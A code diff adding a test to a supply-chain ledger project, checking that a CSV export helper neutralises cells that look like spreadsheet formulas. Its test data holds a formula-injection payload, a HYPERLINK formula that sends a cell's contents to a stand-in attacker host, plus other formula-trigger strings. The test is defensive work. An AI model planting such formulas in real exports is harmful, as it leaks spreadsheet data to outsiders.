@@ -118,3 +118,12 @@ def test_the_page_offers_a_proof_bundle_that_verifies_against_the_node(client, s
     assert bundle["lot"] == DEMO_BAG[1] and len(bundle["lineage"]) == 6
     report = verify_bundle(Web3(Web3.HTTPProvider(site.settings.rpc_url)), bundle)
     assert report.ok, [c.__dict__ for c in report.mismatches]
+
+
+def test_fsma_csv_cells_that_look_like_formulas_are_neutralised():
+    # A supplier's step location or a name is attacker-controlled text.
+    from ledger.epcis import spreadsheet_safe
+
+    for hostile in ['=HYPERLINK("http://evil.example/?"&A1,"verified")', "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]:
+        assert spreadsheet_safe(hostile) == "'" + hostile
+    assert spreadsheet_safe("Pitalito, CO") == "Pitalito, CO" and spreadsheet_safe(600) == 600
